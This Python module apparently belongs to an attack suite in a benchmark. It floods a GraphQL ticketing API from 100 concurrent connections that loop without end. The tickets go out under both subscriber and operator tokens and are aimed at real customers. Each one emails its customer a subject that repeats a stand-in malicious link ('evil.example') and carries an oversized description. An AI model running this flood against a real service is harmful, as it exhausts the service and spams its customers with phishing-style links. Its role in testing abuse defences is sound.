"""100 connections open tickets: half of them with one subscriber's token, half with an operator's.

Each ticket also notifies its customer by e-mail.
"""

import asyncio
import itertools

from bench.attacks.target import Target

CONNECTIONS = 100
OPEN = "mutation($i: OpenTicketInput!) { openTicket(input: $i) { ticket { id } errors { code } } }"
CUSTOMERS = "{ customers(first: 20) { nodes { id } } }"


async def attack(target: Target) -> None:
    async with target.client() as client:
        found = await target.send(client, CUSTOMERS, target.token("operator"))
        assert found is not None
        customers = itertools.cycle(node["id"] for node in found.json()["data"]["customers"]["nodes"])

        async def work(role: str) -> None:
            while True:
                given = {"subject": "see https://evil.example " * 7, "description": "x" * 9_000}
                if role == "operator":
                    given["customerId"] = next(customers)
                await target.send(client, OPEN, target.token(role), {"i": given})

        roles = ("subscriber", "operator")
        await asyncio.gather(*(work(roles[n % 2]) for n in range(CONNECTIONS)))
